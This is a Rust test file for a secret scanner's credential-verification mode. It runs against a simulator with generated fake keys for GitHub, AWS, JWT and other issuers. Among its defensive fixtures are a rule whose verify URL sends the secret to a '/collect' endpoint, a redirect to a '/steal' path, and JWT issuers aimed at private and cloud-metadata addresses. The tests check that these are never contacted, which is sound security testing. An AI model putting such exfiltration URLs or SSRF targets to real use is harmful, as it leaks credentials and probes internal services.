//! End-to-end verification through the real binary against `quench simulate`: every verifier
//! kind gives live (with identity fields), dead and indeterminate verdicts; redirects, private
//! targets and timeouts are handled; a key revoked at the simulator turns dead.

use crate::common;

use common::fake::{self, Gen};
use common::fake_verify::{self as fv, verification, SimProc, Trap};
use common::scan_json;
use serde_json::json;

fn scan_verify(sim: &SimProc, dir: &std::path::Path, extra: &[&str]) -> serde_json::Value {
    let cfg = sim.config.to_string_lossy().into_owned();
    let mut args = vec!["--config", cfg.as_str(), "--verify"];
    args.extend_from_slice(extra);
    let (code, report) = scan_json(dir, &args);
    assert_eq!(code, 1, "findings expected: {report:#}");
    report
}

fn assert_no_secret(haystack: &str, secrets: &[&str]) {
    for s in secrets {
        assert!(!haystack.contains(s), "a secret leaked into output: {}…", &s[..8]);
    }
}

#[test]
fn http_recipes_give_live_dead_and_indeterminate_with_identity() {
    let mut g = Gen::new(501);
    let gh_live = fake::github(&mut g, "ghp");
    let gh_500 = fake::github(&mut g, "ghp");
    let gh_dead = fake::github(&mut g, "ghp");
    let slack_live = fake::slack_bot(&mut g);
    let slack_dead = fake::slack_bot(&mut g);
    let oai_live = fake::openai_project(&mut g);
    let oai_429 = fake::openai_project(&mut g);
    let ant_live = fake::anthropic(&mut g);
    let hf_live = fake::huggingface(&mut g);
    let gl_live = fake::gitlab_routable(&mut g);
    let npm_live = fake::npm(&mut g);
    let dop_live = fv::doppler_personal(&mut g);
    let vault_live = fv::vault_service(&mut g);
    let goog_html = fv::google_access_token(&mut g);
    let keys = format!(
        r#"
[[key]]
issuer = "github"
secret = "{gh_live}"
principal = "octocat"
org = "acme"
scopes = ["repo", "gist"]
expires_at = "2026-12-31 00:00:00 UTC"
[[key]]
issuer = "github"
secret = "{gh_500}"
fault = "500"
[[key]]
issuer = "slack"
secret = "{slack_live}"
principal = "quench-bot"
org = "acme-team"
scopes = ["chat:write", "channels:read"]
[[key]]
issuer = "openai"
secret = "{oai_live}"
principal = "dev@example.com"
org = "Acme"
project = "proj_web1"
[[key]]
issuer = "openai"
secret = "{oai_429}"
fault = "429"
[[key]]
issuer = "anthropic"
secret = "{ant_live}"
[[key]]
issuer = "huggingface"
secret = "{hf_live}"
principal = "hf-user"
org = "hf-org"
scopes = ["write"]
[[key]]
issuer = "gitlab"
secret = "{gl_live}"
principal = "4242"
scopes = ["api", "read_repository"]
expires_at = "2027-01-01"
[[key]]
issuer = "npm"
secret = "{npm_live}"
principal = "npm-user"
[[key]]
issuer = "doppler"
secret = "{dop_live}"
principal = "ci-bot"
org = "acme"
[[key]]
issuer = "vault"
secret = "{vault_live}"
principal = "approle-deployer"
scopes = ["default", "deploy"]
[[key]]
issuer = "google"
secret = "{goog_html}"
fault = "html"
"#
    );
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    let all = [
        &gh_live,
        &gh_500,
        &gh_dead,
        &slack_live,
        &slack_dead,
        &oai_live,
        &oai_429,
        &ant_live,
        &hf_live,
        &gl_live,
        &npm_live,
        &dop_live,
        &vault_live,
        &goog_html,
    ];
    let body: String = all
        .iter()
        .enumerate()
        .map(|(i, s)| format!("SECRET_{i}={s}\n"))
        .collect();
    std::fs::write(dir.path().join("app.env"), body).unwrap();
    let no_retry = sim.extra_config("verify.toml", "[verify]\nretries = 0\n");
    let out = common::run_in(
        dir.path(),
        &[
            "scan",
            "--format",
            "json",
            "--config",
            sim.config.to_str().unwrap(),
            "--config",
            no_retry.to_str().unwrap(),
            "--verify",
            ".",
        ],
        None,
    );
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let secrets: Vec<&str> = all.iter().map(|s| s.as_str()).collect();
    assert_no_secret(&stdout, &secrets);
    assert_no_secret(&stderr, &secrets);
    let r: serde_json::Value = serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));

    let v = verification(&r, "github.pat-classic", &gh_live);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], "octocat");
    assert_eq!(v["org"], "acme");
    assert_eq!(v["scopes"], json!(["repo", "gist"]));
    assert_eq!(v["expires_at"], "2026-12-31 00:00:00 UTC");
    assert_eq!(v["identity_model"], "user");
    assert!(
        v["summary"]
            .as_str()
            .unwrap()
            .contains("user-scoped: acts as octocat"),
        "{v:#}"
    );

    let v = verification(&r, "github.pat-classic", &gh_500);
    assert_eq!(v["verdict"], "indeterminate");
    assert!(v["reason"].as_str().unwrap().contains("HTTP 500"), "{v:#}");
    assert_eq!(
        verification(&r, "github.pat-classic", &gh_dead)["verdict"],
        "dead"
    );

    let v = verification(&r, "slack.bot-token", &slack_live);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], "quench-bot");
    assert_eq!(v["org"], "acme-team");
    assert_eq!(v["identity_model"], "org");
    assert_eq!(v["scopes"], json!(["chat:write", "channels:read"]));
    // A token Slack does not know reads `invalid_auth`, which is also its answer to a live
    // token from a disallowed IP address: not proof of death.
    let v = verification(&r, "slack.bot-token", &slack_dead);
    assert_eq!(v["verdict"], "indeterminate", "{v:#}");
    assert!(v["reason"].as_str().unwrap().contains("invalid_auth"), "{v:#}");

    let v = verification(&r, "openai.project-key", &oai_live);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], "dev@example.com");
    // `/v1/me` lists the user's organizations and projects, not the key's: neither is
    // reported as the key's (a project title was, and the revoke path took it for an id).
    assert!(v["org"].is_null() && v["project"].is_null(), "{v:#}");
    let v = verification(&r, "openai.project-key", &oai_429);
    assert_eq!(v["verdict"], "indeterminate");
    assert!(v["reason"].as_str().unwrap().contains("429"), "{v:#}");

    assert_eq!(
        verification(&r, "anthropic.api-key", &ant_live)["verdict"],
        "live"
    );
    let v = verification(&r, "huggingface.access-token", &hf_live);
    assert_eq!(
        (v["verdict"].as_str(), v["principal"].as_str(), v["org"].as_str()),
        (Some("live"), Some("hf-user"), Some("hf-org"))
    );
    let v = verification(&r, "gitlab.pat-routable", &gl_live);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["scopes"], json!(["api", "read_repository"]));
    assert_eq!(v["expires_at"], "2027-01-01");
    assert_eq!(
        verification(&r, "npm.access-token", &npm_live)["principal"],
        "npm-user"
    );
    let v = verification(&r, "doppler.personal-token", &dop_live);
    assert_eq!(
        (v["principal"].as_str(), v["org"].as_str()),
        (Some("ci-bot"), Some("acme")),
        "{v:#}"
    );
    let v = verification(&r, "vault.service-token", &vault_live);
    assert_eq!(v["principal"], "approle-deployer", "{v:#}");
    assert_eq!(v["scopes"], json!(["default", "deploy"]));
    let v = verification(&r, "google.oauth-access-token", &goog_html);
    assert_eq!(v["verdict"], "indeterminate");
    assert!(v["reason"].as_str().unwrap().contains("HTML"), "{v:#}");

    // Every request was recorded with issuer, method, path and kind, and never a secret.
    let rec = sim.recorded();
    assert!(rec.len() >= 14, "{rec:#?}");
    assert!(rec
        .iter()
        .any(|l| l["issuer"] == "github" && l["path"] == "/github/user" && l["kind"] == "verify"));
    assert!(rec
        .iter()
        .all(|l| l["time"].is_string() && l["method"].is_string()));
    let raw = std::fs::read_to_string(&sim.record).unwrap();
    assert_no_secret(&raw, &secrets);

    // The human report shows the verdict and the blast radius.
    let out = common::run_in(
        dir.path(),
        &["scan", "--config", sim.config.to_str().unwrap(), "--verify", "."],
        None,
    );
    let human = String::from_utf8_lossy(&out.stdout);
    assert!(
        human.contains("verified:    live user-scoped: acts as octocat in acme"),
        "{human}"
    );
    assert_no_secret(&human, &secrets);
    // SARIF carries the verification in the result properties.
    let out = common::run_in(
        dir.path(),
        &[
            "scan",
            "--format",
            "sarif",
            "--config",
            sim.config.to_str().unwrap(),
            "--verify",
            ".",
        ],
        None,
    );
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(results
        .iter()
        .any(|x| x["properties"]["verification"]["principal"] == "octocat"));
}

#[test]
fn aws_sigv4_is_checked_by_the_simulator() {
    let mut g = Gen::new(502);
    let (id1, sk1) = fake::aws(&mut g);
    let (id2, sk2) = fake::aws(&mut g);
    let (_, wrong) = fake::aws(&mut g);
    let (id3, sk3) = fake::aws(&mut g);
    let keys = format!(
        "[[key]]\nissuer = \"aws\"\nkey_id = \"{id1}\"\nsecret = \"{sk1}\"\nprincipal = \"arn:aws:iam::111122223333:user/ci\"\norg = \"111122223333\"\n\
         [[key]]\nissuer = \"aws\"\nkey_id = \"{id2}\"\nsecret = \"{sk2}\"\n"
    );
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    for (name, id, sk) in [("a", &id1, &sk1), ("b", &id2, &wrong), ("c", &id3, &sk3)] {
        std::fs::write(
            dir.path().join(format!("{name}.env")),
            format!("aws_access_key_id = {id}\naws_secret_access_key = {sk}\n"),
        )
        .unwrap();
    }
    let r = scan_verify(&sim, dir.path(), &["."]);
    let v = verification(&r, "aws.access-key", &id1);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], "arn:aws:iam::111122223333:user/ci");
    assert_eq!(v["org"], "AWS account 111122223333");
    assert_eq!(v["verifier"], "aws-sigv4");
    // The key id is known with another secret: it may well be live.
    let v = verification(&r, "aws.access-key", &id2);
    assert_eq!(v["verdict"], "indeterminate", "{v:#}");
    assert!(
        v["reason"].as_str().unwrap().contains("SignatureDoesNotMatch"),
        "{v:#}"
    );
    let v = verification(&r, "aws.access-key", &id3);
    assert_eq!(v["verdict"], "dead");
    assert!(
        v["reason"].as_str().unwrap().contains("InvalidClientTokenId"),
        "{v:#}"
    );
    // A key id alone cannot be checked.
    let lone = tempfile::tempdir().unwrap();
    std::fs::write(lone.path().join("x.txt"), format!("id: {id1}\n")).unwrap();
    let r = scan_verify(&sim, lone.path(), &["."]);
    let v = verification(&r, "aws.access-key", &id1);
    assert_eq!(v["verdict"], "indeterminate");
    assert!(
        v["reason"].as_str().unwrap().contains("secret access key"),
        "{v:#}"
    );
}

#[test]
fn jwt_signature_expiry_and_ssrf_rules() {
    let mut g = Gen::new(503);
    let (idp_pem, _) = fv::rsa_pem(1);
    let (other_pem, _) = fv::rsa_pem(2);
    let keys = format!("[[key]]\nissuer = \"idp\"\nkey_id = \"k1\"\nsecret = \"\"\"{idp_pem}\"\"\"\n");
    let sim = SimProc::start(&keys);
    let iss = format!("{}/idp", sim.url);
    let now = chrono::Utc::now().timestamp();
    let live = fv::jwt_rs256(
        &idp_pem,
        json!({"iss": iss, "sub": "user-42", "email": "ana@example.com", "scope": "read write", "exp": now + 3600}),
        Some("k1"),
    );
    let forged = fv::jwt_rs256(
        &other_pem,
        json!({"iss": iss, "sub": "user-43", "exp": now + 3600}),
        Some("k1"),
    );
    let expired = fv::jwt_rs256(
        &idp_pem,
        json!({"iss": iss, "sub": "user-44", "exp": now - 7200}),
        Some("k1"),
    );
    let hs = fv::jwt_hs256(
        &mut g,
        json!({"sub": "svc", "client_id": "svc", "exp": now + 3600}),
    );
    let trap = Trap::start();
    let to_trap = fv::jwt_rs256(
        &idp_pem,
        json!({"iss": format!("http://{}", trap.addr), "sub": "x1", "exp": now + 3600}),
        None,
    );
    let to_private = fv::jwt_rs256(
        &idp_pem,
        json!({"iss": "https://10.20.30.40", "sub": "x2", "exp": now + 3600}),
        None,
    );
    let to_metadata = fv::jwt_rs256(
        &idp_pem,
        json!({"iss": "https://169.254.169.254/latest", "sub": "x3", "exp": now + 3600}),
        None,
    );
    let dir = tempfile::tempdir().unwrap();
    let tokens = [&live, &forged, &expired, &hs, &to_trap, &to_private, &to_metadata];
    let body: String = tokens
        .iter()
        .map(|t| format!("Authorization: Bearer {t}\n"))
        .collect();
    std::fs::write(dir.path().join("tokens.txt"), body).unwrap();
    let r = scan_verify(&sim, dir.path(), &["."]);
    let v = verification(&r, "jwt.token", &live);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], "ana@example.com");
    assert_eq!(v["scopes"], json!(["read", "write"]));
    assert_eq!(v["identity_model"], "user");
    assert!(v["expires_at"].is_string());
    let v = verification(&r, "jwt.token", &forged);
    assert_eq!(v["verdict"], "dead", "{v:#}");
    let v = verification(&r, "jwt.token", &expired);
    assert_eq!(v["verdict"], "dead");
    assert!(v["reason"].as_str().unwrap().contains("expired"));
    let v = verification(&r, "jwt.token", &hs);
    assert_eq!(v["verdict"], "indeterminate");
    assert_eq!(v["identity_model"], "m2m");
    // Issuers nobody trusted: their keys are never fetched.
    for t in [&to_trap, &to_private, &to_metadata] {
        let v = verification(&r, "jwt.token", t);
        assert_eq!(v["verdict"], "indeterminate", "{v:#}");
        assert!(v["reason"].as_str().unwrap().contains("not trusted"), "{v:#}");
    }
    assert_eq!(trap.hits(), 0, "a token-derived loopback URL was contacted");

    // Trusted by the operator but refused by the egress rules: still never contacted.
    let trusting = sim.extra_config(
        "trust.toml",
        &format!(
            "[verify]\njwt_issuers = [\"{iss}\", \"http://{}\", \"https://10.20.30.40\", \"https://169.254.169.254\"]\n",
            trap.addr
        ),
    );
    let r = scan_verify(&sim, dir.path(), &["--config", trusting.to_str().unwrap(), "."]);
    for t in [&to_trap, &to_private, &to_metadata] {
        let v = verification(&r, "jwt.token", t);
        assert_eq!(v["verdict"], "indeterminate", "{v:#}");
        assert!(v["reason"].as_str().unwrap().contains("refused"), "{v:#}");
    }
    assert_eq!(trap.hits(), 0, "a token-derived loopback URL was contacted");
    assert_eq!(verification(&r, "jwt.token", &live)["verdict"], "live");
}

/// A token signed by whoever runs the server its `iss` names proves nothing unless the
/// operator trusts that issuer: with only Google trusted, the simulator's issuer is not asked
/// for its keys and a correctly signed token reads indeterminate, not live.
#[test]
fn jwt_signatures_are_checked_only_against_trusted_issuers() {
    let (pem, _) = fv::rsa_pem(3);
    let sim = SimProc::start(&format!(
        "[[key]]\nissuer = \"idp\"\nkey_id = \"k1\"\nsecret = \"\"\"{pem}\"\"\"\n"
    ));
    let now = chrono::Utc::now().timestamp();
    let token = fv::jwt_rs256(
        &pem,
        json!({"iss": format!("{}/idp", sim.url), "sub": "attacker", "exp": now + 3600}),
        Some("k1"),
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("t.txt"),
        format!("Authorization: Bearer {token}\n"),
    )
    .unwrap();
    let only_google = sim.extra_config(
        "trust.toml",
        "[verify]\njwt_issuers = [\"https://accounts.google.com\"]\n",
    );
    let r = scan_verify(
        &sim,
        dir.path(),
        &["--config", only_google.to_str().unwrap(), "."],
    );
    let v = verification(&r, "jwt.token", &token);
    assert_eq!(v["verdict"], "indeterminate", "{v:#}");
    assert!(v["reason"].as_str().unwrap().contains("not trusted"), "{v:#}");
    assert!(
        !sim.recorded().iter().any(|l| l["issuer"] == "idp"),
        "the untrusted issuer's keys were fetched"
    );
}

#[test]
fn github_app_google_service_account_and_oauth_client_credentials() {
    let mut g = Gen::new(504);
    let (app_pem, _) = fv::rsa_pem(3);
    let (stray_pem, _) = fv::rsa_pem(4);
    let (_, sa_pem) = fv::rsa_pem(5);
    let (_, stray_sa) = fv::rsa_pem(6);
    let (tenant, client, cs) = (fv::uuid(&mut g), fv::uuid(&mut g), fv::entra_secret(&mut g));
    let cs_dead = fv::entra_secret(&mut g);
    let keys = format!(
        "[[key]]\nissuer = \"github\"\nkey_id = \"2131994\"\nprincipal = \"quench-app\"\norg = \"acme\"\nscopes = [\"contents:read\", \"metadata:read\"]\nsecret = \"\"\"{app_pem}\"\"\"\n\
         [[key]]\nissuer = \"google\"\nprincipal = \"deployer@proj-x.iam.gserviceaccount.com\"\nsecret = \"\"\"{sa_pem}\"\"\"\n\
         [[key]]\nissuer = \"azure\"\nkey_id = \"{client}\"\norg = \"{tenant}\"\nscopes = [\"User.Read.All\"]\nsecret = \"{cs}\"\n"
    );
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("app.env"),
        format!("GITHUB_APP_ID=2131994\nGITHUB_APP_PRIVATE_KEY=\"{app_pem}\"\n"),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("stray.env"),
        format!("GITHUB_APP_ID=3875209\nGITHUB_APP_PRIVATE_KEY=\"{stray_pem}\"\n"),
    )
    .unwrap();
    let mut sa_json = |pem: &str, email: &str| {
        json!({"type": "service_account", "project_id": "proj-x", "private_key_id": g.hex(40), "private_key": pem, "client_email": email,
               "token_uri": "https://oauth2.googleapis.com/token"})
        .to_string()
    };
    std::fs::write(
        dir.path().join("sa.json"),
        sa_json(&sa_pem, "deployer@proj-x.iam.gserviceaccount.com"),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("sa-old.json"),
        sa_json(&stray_sa, "old@proj-x.iam.gserviceaccount.com"),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("azure.env"),
        format!("AZURE_TENANT_ID={tenant}\nAZURE_CLIENT_ID={client}\nAZURE_CLIENT_SECRET={cs}\n"),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("azure-old.env"),
        format!("AZURE_TENANT_ID={tenant}\nAZURE_CLIENT_ID={client}\nAZURE_CLIENT_SECRET={cs_dead}\n"),
    )
    .unwrap();
    let r = scan_verify(&sim, dir.path(), &["."]);
    let findings = r["findings"].as_array().unwrap();
    let by_rule = |rule: &str| -> Vec<&serde_json::Value> {
        findings
            .iter()
            .filter(|f| f["rule_id"] == rule)
            .map(|f| &f["verification"])
            .collect()
    };
    let apps = by_rule("github.app-private-key");
    assert_eq!(apps.len(), 2, "{r:#}");
    let live = apps
        .iter()
        .find(|v| v["verdict"] == "live")
        .expect("live app key");
    assert_eq!(live["principal"], "quench-app");
    assert_eq!(live["org"], "acme");
    assert_eq!(live["identity_model"], "m2m");
    assert_eq!(live["scopes"], json!(["contents:read", "metadata:read"]));
    assert!(apps.iter().any(|v| v["verdict"] == "dead"));
    let sas = by_rule("google.service-account-key");
    assert_eq!(sas.len(), 2, "{r:#}");
    let live = sas
        .iter()
        .find(|v| v["verdict"] == "live")
        .expect("live service account");
    assert_eq!(live["principal"], "deployer@proj-x.iam.gserviceaccount.com");
    assert_eq!(live["project"], "proj-x");
    assert!(sas.iter().any(|v| v["verdict"] == "dead"));
    let v = verification(&r, "azure.entra-client-secret", &cs);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], client.as_str());
    assert_eq!(v["org"], tenant.as_str());
    assert_eq!(v["identity_model"], "m2m");
    assert_eq!(v["scopes"], json!(["User.Read.All"]));
    // The minted token expires within the hour; the client secret does not. This app may not
    // read its own registration, so the secret's expiry is unknown, never the token's `exp`.
    assert!(v["expires_at"].is_null(), "{v:#}");
    assert!(
        v["extra"]["secret_expiry"]
            .as_str()
            .is_some_and(|e| e.contains("403") || e.contains("401")),
        "{v:#}"
    );
    assert_eq!(
        verification(&r, "azure.entra-client-secret", &cs_dead)["verdict"],
        "dead"
    );
}

#[test]
fn redirects_are_not_followed_and_slow_issuers_time_out() {
    let mut g = Gen::new(505);
    let trap = Trap::start();
    let redirected = fake::github(&mut g, "ghp");
    let slow = fake::github(&mut g, "ghp");
    let keys = format!(
        "[simulator]\nslow_ms = 5000\n[[key]]\nissuer = \"github\"\nsecret = \"{redirected}\"\nfault = \"redirect\"\nredirect_to = \"http://{}/steal\"\n\
         [[key]]\nissuer = \"github\"\nsecret = \"{slow}\"\nfault = \"slow\"\n",
        trap.addr
    );
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("t.env"), format!("A={redirected}\nB={slow}\n")).unwrap();
    let r = scan_verify(&sim, dir.path(), &["--verify-timeout", "1", "."]);
    let v = verification(&r, "github.pat-classic", &redirected);
    assert_eq!(v["verdict"], "indeterminate");
    assert!(v["reason"].as_str().unwrap().contains("redirect"), "{v:#}");
    assert_eq!(trap.hits(), 0, "the redirect was followed");
    let v = verification(&r, "github.pat-classic", &slow);
    assert_eq!(v["verdict"], "indeterminate");
    assert!(v["reason"].as_str().unwrap().contains("timed out"), "{v:#}");
}

#[test]
fn keys_revoked_at_the_simulator_verify_dead() {
    let mut g = Gen::new(506);
    let gh = fake::github(&mut g, "ghp");
    let slack = fake::slack_bot(&mut g);
    let keys = format!("[[key]]\nissuer = \"github\"\nsecret = \"{gh}\"\n[[key]]\nissuer = \"slack\"\nsecret = \"{slack}\"\n");
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("t.env"), format!("A={gh}\nB={slack}\n")).unwrap();
    let r = scan_verify(&sim, dir.path(), &["."]);
    assert_eq!(verification(&r, "github.pat-classic", &gh)["verdict"], "live");
    assert_eq!(verification(&r, "slack.bot-token", &slack)["verdict"], "live");
    let (st, _) = sim.request(
        "POST",
        "/github/credentials/revoke",
        &[("Content-Type", "application/json")],
        &json!({"credentials": [gh]}).to_string(),
    );
    assert_eq!(st, 202);
    let auth = format!("Bearer {slack}");
    let (st, body) = sim.request("POST", "/slack/api/auth.revoke", &[("Authorization", &auth)], "");
    assert_eq!(st, 200);
    assert!(body.contains("\"revoked\":true"), "{body}");
    let r = scan_verify(&sim, dir.path(), &["."]);
    assert_eq!(verification(&r, "github.pat-classic", &gh)["verdict"], "dead");
    let v = verification(&r, "slack.bot-token", &slack);
    assert_eq!(v["verdict"], "dead");
    assert!(v["reason"].as_str().unwrap().contains("token_revoked"), "{v:#}");
    let rec = sim.recorded();
    assert_eq!(
        rec.iter().filter(|l| l["kind"] == "revoke").count(),
        2,
        "{rec:#?}"
    );
}

/// Issuers that refuse keys with something other than a plain 401: a refusal that names a live
/// key's missing permission reads live, and one that names a bad key reads dead.
#[test]
fn refusals_read_as_each_issuer_words_them() {
    let mut g = Gen::new(512);
    let xai_live = format!("xai-{}", g.alnum(80));
    let xai_dead = format!("xai-{}", g.alnum(80));
    let svcacct = |g: &mut Gen| format!("sk-svcacct-{}T3BlbkFJ{}", g.alnum(74), g.alnum(74));
    let oai_restricted = svcacct(&mut g);
    let oai_dead = svcacct(&mut g);
    let goog_maps = format!("AIza{}", g.alnum(35));
    let eleven_tts = format!("sk_{}", g.hex(48));
    let eleven_dead = format!("sk_{}", g.hex(48));
    let figma_files = format!("figd_{}", g.alnum(40));
    let figma_dead = format!("figd_{}", g.alnum(40));
    let keys = format!(
        "[[key]]\nissuer = \"xai\"\nsecret = \"{xai_live}\"\nprincipal = \"grok-key\"\n\
         [[key]]\nissuer = \"openai\"\nsecret = \"{oai_restricted}\"\nscopes = [\"model.request\"]\n\
         [[key]]\nissuer = \"google\"\nsecret = \"{goog_maps}\"\nscopes = [\"maps-backend.googleapis.com\"]\n\
         [[key]]\nissuer = \"elevenlabs\"\nsecret = \"{eleven_tts}\"\nscopes = [\"text_to_speech\"]\n\
         [[key]]\nissuer = \"figma\"\nsecret = \"{figma_files}\"\nscopes = [\"file_content:read\"]\n"
    );
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    let env = format!(
        "XAI_API_KEY={xai_live}\nXAI_OLD={xai_dead}\nOPENAI_API_KEY={oai_restricted}\n\
         OPENAI_OLD={oai_dead}\nGOOGLE_API_KEY={goog_maps}\nELEVENLABS_API_KEY={eleven_tts}\n\
         ELEVENLABS_OLD_API_KEY={eleven_dead}\nFIGMA_TOKEN={figma_files}\nFIGMA_OLD={figma_dead}\n"
    );
    std::fs::write(dir.path().join("t.env"), env).unwrap();
    let r = scan_verify(&sim, dir.path(), &["."]);

    let v = verification(&r, "xai.api-key", &xai_live);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], "grok-key");
    // xAI: 400 "Incorrect API key provided".
    let v = verification(&r, "xai.api-key", &xai_dead);
    assert_eq!(v["verdict"], "dead", "{v:#}");

    // OpenAI: 401 "Missing scopes: api.model.read" for a restricted key that may not list
    // models; 401 invalid_api_key for an unknown one.
    let v = verification(&r, "openai.service-account-key", &oai_restricted);
    assert_eq!(v["verdict"], "live", "{v:#}");
    let v = verification(&r, "openai.service-account-key", &oai_dead);
    assert_eq!(v["verdict"], "dead", "{v:#}");

    // Google: 403 SERVICE_DISABLED for a valid key whose project has Gemini off.
    let v = verification(&r, "google.api-key", &goog_maps);
    assert_eq!(v["verdict"], "live", "{v:#}");
    // ElevenLabs: 401 missing_permissions for a text-to-speech-only key; 401 invalid_api_key
    // for an unknown one.
    let v = verification(&r, "elevenlabs.api-key", &eleven_tts);
    assert_eq!(v["verdict"], "live", "{v:#}");
    let v = verification(&r, "elevenlabs.api-key", &eleven_dead);
    assert_eq!(v["verdict"], "dead", "{v:#}");
    // Figma: 403 for both, "Invalid scope(s)" for a live token that may not read its user,
    // "Invalid token" for an unknown one.
    let v = verification(&r, "figma.personal-access-token", &figma_files);
    assert_eq!(v["verdict"], "live", "{v:#}");
    let v = verification(&r, "figma.personal-access-token", &figma_dead);
    assert_eq!(v["verdict"], "dead", "{v:#}");
    let rec = sim.recorded();
    assert!(
        rec.iter().any(|l| l["issuer"] == "google" && l["status"] == 403),
        "{rec:#?}"
    );
    assert!(
        rec.iter().any(|l| l["issuer"] == "xai" && l["status"] == 400),
        "{rec:#?}"
    );
}

#[test]
fn ignored_and_baselined_secrets_are_never_sent() {
    let mut g = Gen::new(507);
    let shown = fake::github(&mut g, "ghp");
    let ignored = fake::github(&mut g, "ghp");
    let baselined = fake::github(&mut g, "ghp");
    let keys = format!("[[key]]\nissuer = \"github\"\nsecret = \"{shown}\"\n");
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("t.env"),
        format!("A={shown}\nB={ignored}\nC={baselined}\n"),
    )
    .unwrap();
    let fp = |s: &str| common::fingerprint("github.pat-classic", s.as_bytes());
    std::fs::write(dir.path().join(".quenchignore"), format!("{}\n", fp(&ignored))).unwrap();
    std::fs::write(
        dir.path().join("baseline.json"),
        json!({"version": 1, "created": "2026-01-01T00:00:00Z", "findings": [{"fingerprint": fp(&baselined), "rule_id": "github.pat-classic"}]}).to_string(),
    )
    .unwrap();
    let r = scan_verify(&sim, dir.path(), &["--baseline", "baseline.json", "."]);
    assert_eq!(r["findings"].as_array().unwrap().len(), 1, "{r:#}");
    assert_eq!(verification(&r, "github.pat-classic", &shown)["verdict"], "live");
    let github_calls = sim.recorded().iter().filter(|l| l["issuer"] == "github").count();
    assert_eq!(github_calls, 1, "only the reported secret may be sent");
}

#[test]
fn a_recipe_cannot_send_a_secret_outside_its_issuers_hosts() {
    let mut g = Gen::new(508);
    let trap = Trap::start();
    let sim = SimProc::start("");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("exfil.toml");
    std::fs::write(
        &rules,
        format!(
            "[[rule]]\nid = 'acme.token'\nname = 'Acme token'\nissuer = 'github'\nidentity = 'user'\nkeywords = ['acme_']\n\
             pattern = '''\\b(acme_[a-z0-9]{{24}})\\b'''\n[rule.verify]\nurl = \"http://{}/collect?k={{secret}}\"\n",
            trap.addr
        ),
    )
    .unwrap();
    let token = format!("acme_{}", g.hex(24));
    let tree = dir.path().join("tree");
    std::fs::create_dir(&tree).unwrap();
    std::fs::write(tree.join("a.txt"), format!("t = {token}\n")).unwrap();
    let r = scan_verify(&sim, &tree, &["--rules", rules.to_str().unwrap(), "."]);
    let v = verification(&r, "acme.token", &token);
    assert_eq!(v["verdict"], "indeterminate");
    assert!(
        v["reason"]
            .as_str()
            .unwrap()
            .contains("not one of the issuer's configured hosts"),
        "{v:#}"
    );
    assert!(!v.to_string().contains(&token));
    assert_eq!(trap.hits(), 0);
}

#[test]
fn retry_after_is_honoured() {
    let mut g = Gen::new(509);
    let once = fake::github(&mut g, "ghp");
    let keys = format!(
        "[[key]]\nissuer = \"github\"\nsecret = \"{once}\"\nprincipal = \"patient\"\nfault = \"429-once\"\n"
    );
    let sim = SimProc::start(&keys);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("t.env"), format!("A={once}\n")).unwrap();
    let r = scan_verify(&sim, dir.path(), &["."]);
    let v = verification(&r, "github.pat-classic", &once);
    assert_eq!(v["verdict"], "live", "{v:#}");
    assert_eq!(v["principal"], "patient");
    let statuses: Vec<i64> = sim
        .recorded()
        .iter()
        .map(|l| l["status"].as_i64().unwrap())
        .collect();
    assert_eq!(
        statuses,
        vec![429, 200],
        "one 429, then the retry after Retry-After"
    );
}
